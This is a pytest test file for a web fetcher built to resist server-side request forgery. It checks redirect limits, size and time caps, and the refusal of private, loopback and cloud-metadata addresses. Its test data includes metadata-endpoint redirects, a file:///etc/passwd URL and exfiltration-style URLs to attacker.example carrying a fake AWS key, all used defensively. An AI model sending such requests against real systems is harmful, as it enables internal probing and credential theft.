"""The fetcher: public addresses only, every hop checked, caps on size, time and type."""
from __future__ import annotations

import ipaddress
import socket
import ssl
import threading

import pytest

from engine.web.fetch import Fetcher, FetchError
from tests.gated import GUARD_SECONDS
from tests.web_site import serve_site

REAL_GETADDRINFO = socket.getaddrinfo


@pytest.fixture(scope="module")
def site():
    with serve_site() as local:
        yield local


@pytest.fixture
def local_fetcher() -> Fetcher:
    return Fetcher(timeout=2.0, max_bytes=200_000, allow_loopback=True, own_addresses=frozenset())


def _answers(*ips: str):
    """What getaddrinfo returns for a host with these addresses."""
    def fake(host, port, *args, **kwargs):
        family = lambda ip: socket.AF_INET6 if ":" in ip else socket.AF_INET  # noqa: E731
        return [(family(ip), socket.SOCK_STREAM, 6, "", (ip, port)) for ip in ips]
    return fake


@pytest.fixture
def no_connect(monkeypatch):
    """Any attempt to open a socket fails the test, and is recorded in case something swallows it."""
    attempts: list = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise AssertionError(f"a connection was attempted: {args}")

    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    return attempts


def test_fetches_an_article_from_the_local_server(site, local_fetcher):
    page = local_fetcher.fetch(site.url("/article"))
    assert b"Late-night coffee in Bangkok" in page.body
    assert page.content_type == "text/html" and page.charset == "utf-8" and not page.truncated
    record = local_fetcher.log[-1]
    assert (record.url, record.ip, record.decision) == (site.url("/article"), "127.0.0.1", "allowed")


def test_loopback_is_refused_without_the_test_flag(site, no_connect):
    fetcher = Fetcher(own_addresses=frozenset())
    with pytest.raises(FetchError, match="loopback"):
        fetcher.fetch(site.url("/article"))
    assert no_connect == []
    assert fetcher.log[-1].decision == "refused" and fetcher.log[-1].ip == "127.0.0.1"


def test_a_redirect_chain_is_followed_and_every_hop_logged(site, local_fetcher):
    site.redirect("/hop1", "/hop2", status=301)
    site.redirect("/hop2", site.url("/hop3"), status=307)
    site.redirect("/hop3", "/article")
    page = local_fetcher.fetch(site.url("/hop1"))
    assert page.url == site.url("/article")
    assert [(r.url.rsplit("/", 1)[1], r.decision) for r in local_fetcher.log] == [
        ("hop1", "allowed"), ("hop2", "allowed"), ("hop3", "allowed"), ("article", "allowed")
    ]


def test_five_redirects_are_followed_and_the_sixth_is_refused(site, local_fetcher):
    for n in range(6):
        site.redirect(f"/chain{n}", f"/chain{n + 1}")
    site.add("/chain6", "<p>end of the chain</p>")
    assert local_fetcher.fetch(site.url("/chain1")).url == site.url("/chain6")
    with pytest.raises(FetchError, match="more than 5 redirects"):
        local_fetcher.fetch(site.url("/chain0"))
    assert local_fetcher.log[-1].decision == "refused"


def test_a_redirect_loop_ends(site, local_fetcher):
    site.redirect("/loop", "/loop")
    with pytest.raises(FetchError, match="redirects"):
        local_fetcher.fetch(site.url("/loop"))


def test_a_huge_page_is_cut_at_the_size_cap(site):
    # The server sends 1 MB, then holds the rest until the test lets go: a fetcher that read the whole
    # page before cutting it would still be waiting (and fail at its deadlock-guard timeout).
    rest = threading.Event()
    body = "<html><body><p>" + "word " * 1_000_000 + "</p></body></html>"
    site.add("/huge", body, pause=lambda: rest.wait(GUARD_SECONDS), pause_at=1_000_000)
    fetcher = Fetcher(timeout=GUARD_SECONDS, max_bytes=200_000, allow_loopback=True, own_addresses=frozenset())
    try:
        page = fetcher.fetch(site.url("/huge"))
        assert page.truncated and len(page.body) == 200_000
        assert site.sent["/huge"] == 1_000_000, "the fetcher waited for the rest of the page"
    finally:
        rest.set()
    assert "cut at the size cap" in fetcher.log[-1].reason


def test_a_slow_page_is_given_up_at_the_time_cap(site):
    answer = threading.Event()
    site.add("/slow", "<p>finally</p>", pause=lambda: answer.wait(GUARD_SECONDS))
    fetcher = Fetcher(timeout=0.5, allow_loopback=True, own_addresses=frozenset())
    try:
        with pytest.raises(FetchError, match="took longer than 0.5 s"):
            fetcher.fetch(site.url("/slow"))
        assert site.sent["/slow"] == 0, "the fetcher gave up only once the page had answered"
    finally:
        answer.set()
    assert fetcher.log[-1].decision == "failed"


def test_a_trickling_page_cannot_hold_the_fetcher_past_the_time_cap(site):
    # 10 bytes every 0.1 s for a minute: a server that never goes quiet long enough for a socket
    # timeout, so only a deadline over the whole page gives up on it.
    body = "<p>" + "x" * 6000 + "</p>"
    site.add("/trickle", body, trickle=0.1)
    fetcher = Fetcher(timeout=0.6, allow_loopback=True, own_addresses=frozenset())
    with pytest.raises(FetchError, match="took longer"):
        fetcher.fetch(site.url("/trickle"))
    assert site.sent["/trickle"] < len(body), "the fetcher read the whole page before giving up"


@pytest.mark.parametrize("content_type", ["image/png", "application/pdf", "application/octet-stream", ""])
def test_only_text_pages_are_accepted(site, local_fetcher, content_type):
    site.add("/binary", b"\x89PNG\r\n", content_type=content_type)
    with pytest.raises(FetchError, match="not a text page"):
        local_fetcher.fetch(site.url("/binary"))
    assert local_fetcher.log[-1].decision == "refused"


def test_plain_text_and_xhtml_are_accepted(site, local_fetcher):
    site.add("/notes.txt", "plain notes", content_type="text/plain; charset=utf-8")
    site.add("/page.xhtml", "<html><body><p>x</p></body></html>", content_type="application/xhtml+xml")
    assert local_fetcher.fetch(site.url("/notes.txt")).body == b"plain notes"
    assert local_fetcher.fetch(site.url("/page.xhtml")).content_type == "application/xhtml+xml"


@pytest.mark.parametrize("status", [404, 500])
def test_http_errors_are_reported_with_their_status(site, local_fetcher, status):
    site.add(f"/status{status}", "oops", status=status)
    with pytest.raises(FetchError, match=f"HTTP {status}"):
        local_fetcher.fetch(site.url(f"/status{status}"))
    assert local_fetcher.log[-1].decision == "failed"


@pytest.mark.parametrize("url", ["file:///etc/passwd", "ftp://example.com/x", "gopher://x/", "javascript:alert(1)", "http:///nohost"])
def test_other_schemes_are_refused_before_any_lookup(url, monkeypatch, no_connect):
    monkeypatch.setattr(socket, "getaddrinfo", lambda *a, **k: pytest.fail("no lookup expected"))
    fetcher = Fetcher(own_addresses=frozenset())
    with pytest.raises(FetchError, match="refused"):
        fetcher.fetch(url)
    assert fetcher.log[-1].decision == "refused"


FORBIDDEN = [
    "10.0.0.1", "172.16.5.4", "192.168.1.1", "127.0.0.1", "127.8.8.8", "169.254.169.254", "100.64.0.1",
    "100.127.255.254", "224.0.0.251", "239.255.255.250", "0.0.0.0", "240.0.0.1", "255.255.255.255",
    "::1", "::", "fe80::1", "fc00::1", "fd12:3456::1", "ff02::1",
    "::ffff:10.0.0.1", "::ffff:127.0.0.1", "::ffff:169.254.169.254",
    "2002:a9fe:a9fe::", "2002:7f00:1::", "2002:0a00:0001::1",
    "64:ff9b::a9fe:a9fe", "64:ff9b::7f00:1", "64:ff9b::a00:1",
]


@pytest.mark.parametrize("ip", FORBIDDEN)
def test_non_public_answers_are_refused_and_never_connected(ip, monkeypatch, no_connect):
    monkeypatch.setattr(socket, "getaddrinfo", _answers(ip))
    fetcher = Fetcher(own_addresses=frozenset())
    with pytest.raises(FetchError, match="refused"):
        fetcher.fetch("http://innocent.example/page")
    assert no_connect == []
    record = fetcher.log[-1]
    assert (record.url, record.ip, record.decision) == ("http://innocent.example/page", ip, "refused")


def test_one_private_answer_among_public_ones_refuses_the_host(monkeypatch, no_connect):
    monkeypatch.setattr(socket, "getaddrinfo", _answers("93.184.216.34", "10.1.2.3"))
    with pytest.raises(FetchError, match="private"):
        Fetcher(own_addresses=frozenset()).fetch("https://rebind.example/")
    assert no_connect == []


def test_this_machines_own_public_address_is_refused(monkeypatch, no_connect):
    monkeypatch.setattr(socket, "getaddrinfo", _answers("93.184.216.34"))
    fetcher = Fetcher(own_addresses=frozenset({ipaddress.ip_address("93.184.216.34")}))
    with pytest.raises(FetchError, match="address of this machine"):
        fetcher.fetch("http://me.example/")
    assert no_connect == []


def test_a_public_host_is_connected_at_the_checked_ip_without_a_second_lookup(monkeypatch):
    lookups, connects = [], []
    monkeypatch.setattr(socket, "getaddrinfo", lambda host, port, *a, **k: lookups.append(host) or _answers("93.184.216.34")(host, port))

    def fake_connect(address, *args, **kwargs):
        connects.append(address)
        raise ConnectionRefusedError("test: no real network")

    monkeypatch.setattr(socket, "create_connection", fake_connect)
    fetcher = Fetcher(own_addresses=frozenset())
    with pytest.raises(FetchError, match="ConnectionRefusedError"):
        fetcher.fetch("http://public.example/news")
    assert lookups == ["public.example"]
    assert connects == [("93.184.216.34", 80)]
    assert fetcher.log[-1].decision == "failed" and fetcher.log[-1].ip == "93.184.216.34"


def test_https_checks_the_certificate_against_the_host_name(monkeypatch):
    class FakeSocket:
        def close(self):
            return None

    hostnames = []

    class RecordingContext(ssl.SSLContext):
        def wrap_socket(self, sock, server_hostname=None, **kwargs):
            hostnames.append(server_hostname)
            raise ssl.SSLError("test: no handshake")

    monkeypatch.setattr(socket, "getaddrinfo", _answers("93.184.216.34"))
    monkeypatch.setattr(socket, "create_connection", lambda address, *a, **k: FakeSocket())
    context = RecordingContext(ssl.PROTOCOL_TLS_CLIENT)
    assert context.verify_mode == ssl.CERT_REQUIRED and context.check_hostname
    fetcher = Fetcher(own_addresses=frozenset(), tls_context=context)
    with pytest.raises(FetchError, match="SSLError"):
        fetcher.fetch("https://secure.example/")
    assert hostnames == ["secure.example"]
    production = Fetcher(own_addresses=frozenset()).tls_context
    assert production.verify_mode == ssl.CERT_REQUIRED and production.check_hostname


def test_a_redirect_to_the_metadata_address_is_refused_at_the_hop(site, monkeypatch):
    connects = []
    real_connect = socket.create_connection

    def loopback_only(address, *args, **kwargs):
        connects.append(address[0])
        if address[0] != "127.0.0.1":
            raise AssertionError(f"connected to {address}")
        return real_connect(address, *args, **kwargs)

    def resolver(host, port, *args, **kwargs):
        if host == "metadata.google.internal":
            return _answers("169.254.169.254")(host, port)
        return REAL_GETADDRINFO(host, port, *args, **kwargs)

    monkeypatch.setattr(socket, "create_connection", loopback_only)
    monkeypatch.setattr(socket, "getaddrinfo", resolver)
    site.redirect("/to-metadata", "http://169.254.169.254/latest/meta-data/")
    site.redirect("/to-metadata-name", "http://metadata.google.internal/computeMetadata/v1/")
    fetcher = Fetcher(allow_loopback=True, own_addresses=frozenset())
    for path in ("/to-metadata", "/to-metadata-name"):
        with pytest.raises(FetchError, match="link-local"):
            fetcher.fetch(site.url(path))
    assert set(connects) == {"127.0.0.1"}
    decisions = [(r.ip, r.decision) for r in fetcher.log]
    assert decisions == [("127.0.0.1", "allowed"), ("169.254.169.254", "refused")] * 2


def test_the_host_name_is_sent_while_the_socket_goes_to_the_checked_ip(site, monkeypatch, local_fetcher):
    port = int(site.base.rsplit(":", 1)[1])
    monkeypatch.setattr(socket, "getaddrinfo", _answers("127.0.0.1"))
    page = local_fetcher.fetch(f"http://news.example:{port}/article")
    assert b"coffee" in page.body
    path, headers = site.requests[-1]
    assert path == "/article" and headers["Host"] == f"news.example:{port}"


def test_proxy_variables_are_ignored(site, monkeypatch, local_fetcher):
    for name in ("HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "ALL_PROXY"):
        monkeypatch.setenv(name, "http://127.0.0.1:9")  # a closed port: using it would fail
    monkeypatch.delenv("NO_PROXY", raising=False)
    assert b"coffee" in local_fetcher.fetch(site.url("/article")).body
    assert site.requests[-1][0] == "/article"  # origin form, not a proxy's absolute URL


def test_no_production_code_allows_loopback():
    from pathlib import Path

    engine = Path(__file__).resolve().parent.parent / "engine"
    offenders = [str(p) for p in engine.rglob("*.py") if "allow_loopback=True" in p.read_text(encoding="utf-8")]
    assert offenders == []


def test_an_address_carrying_a_secret_is_never_opened_nor_logged(monkeypatch):
    def no_network(*args, **kwargs):
        raise AssertionError("nothing may be resolved or connected")

    monkeypatch.setattr(socket, "getaddrinfo", no_network)
    monkeypatch.setattr(socket.socket, "connect", no_network)
    fetcher = Fetcher()
    key = "AKIA" + "Q3EGRTYUIOPASDFG"
    for url in (f"https://attacker.example/collect?k={key}", f"http://attacker.example/{key}/x.png",
                "https://attacker.example/?d=-----BEGIN%20RSA%20PRIVATE%20KEY-----"):
        with pytest.raises(FetchError) as info:
            fetcher.fetch(url)
        assert "secret" in str(info.value) and key not in str(info.value)
    assert all(record.decision == "refused" and key not in record.url for record in fetcher.log)
